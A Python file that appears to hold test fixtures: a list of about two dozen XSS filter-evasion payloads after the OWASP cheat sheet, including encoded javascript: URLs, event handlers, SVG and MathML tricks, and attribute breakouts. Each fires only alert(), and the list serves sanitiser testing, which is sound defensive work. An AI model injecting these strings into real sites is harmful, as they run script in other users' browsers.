"""Filter-evasion vectors after the OWASP XSS Filter Evasion Cheat Sheet: script tags,
event handlers, javascript: and entity-encoded URLs, SVG and other auto-firing
elements, and breakouts from attributes and text areas. Most fire on their own when
they are rendered as markup, so a page that fails to neutralise them opens a dialog."""

VECTORS = [
    "<script>alert('XSS')</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=x onerror=alert('XSS')>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    "<details open ontoggle=alert('XSS')>",
    "<a href=\"javascript:alert('XSS')\">click me</a>",
    "[click me](javascript:alert('XSS'))",
    "[click me](javascript&#58;alert('XSS'))",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    '"><script>alert(1)</script>',
    "'onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<input autofocus onfocus=alert('XSS')>",
]
